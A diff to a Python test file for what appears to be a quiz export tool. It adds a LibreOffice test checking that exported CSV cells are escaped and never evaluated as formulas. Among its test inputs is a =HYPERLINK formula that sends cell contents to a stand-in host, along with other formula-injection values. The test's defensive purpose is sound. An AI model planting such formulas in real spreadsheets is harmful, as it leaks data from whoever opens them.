@@ -13,7 +13,7 @@ from quizforge.export import ExportContext, get
 from quizforge.export.run import ExportRequest, export
 from quizforge.pipeline import BuildRequest, make_paper
 
-from .clients import moodle_import, needs_moodle
+from .clients import moodle_import, needs_moodle, needs_soffice, soffice_cells
 from .conftest import FIXTURES, PURGES
 from .export_samples import nasty_paper
 
@@ -208,3 +208,36 @@ def test_qti21_items_score_their_marks():
             score = _score_of_correct_response(by_title[f"Q{q.number} {q.strategy}"])
             assert score is None or score == q.marks, (q.strategy, score, q.marks)
     assert any(q.strategy == "sequence" and q.marks == 2 for q in sequence.questions)
+
+
+# --- LibreOffice on every CSV the tool writes ---------------------------------------------
+
+
+def _our_cells(path: Path) -> list[list[str]]:
+    import csv
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.reader(handle))
+
+
+@pytest.mark.slow
+@needs_soffice
+def test_libreoffice_shows_every_csv_cell_as_text(tmp_path):
+    from quizforge.batch.manifest import COLUMNS, write_manifest
+
+    export_csv = tmp_path / "questions.csv"
+    export_csv.write_bytes(get("csv").export(nasty_paper(), ExportContext()))
+    manifest = tmp_path / "manifest.csv"
+    hostile = ['=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "+44 7700 900123", "-1", "@SUM(A1:A2)",
+               "\ufeffZoë\r Brown"]
+    write_manifest(manifest, [{c: (name if c == "name" else "=1+1" if c == "class" else i) for c in COLUMNS}
+                              for i, name in enumerate(hostile, 1)])
+    for path in (export_csv, manifest):
+        shown = soffice_cells(path, tmp_path)
+        # Calc reads True/False as its booleans and shows them as TRUE/FALSE; every other cell is as written
+        ours = [[c.upper() if c in ("True", "False") else c for c in row] for row in _our_cells(path)]
+        assert shown == ours, "no cell was evaluated as a formula: Calc shows exactly the text written"
+        cells = [c for row in shown for c in row]
+        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
+        assert not any("\ufeff" in c or "\r" in c for c in cells)
+    names = [row[2] for row in _our_cells(manifest)[1:]]
+    assert names[0] == "'" + hostile[0] and names[4] == "Zoë Brown"
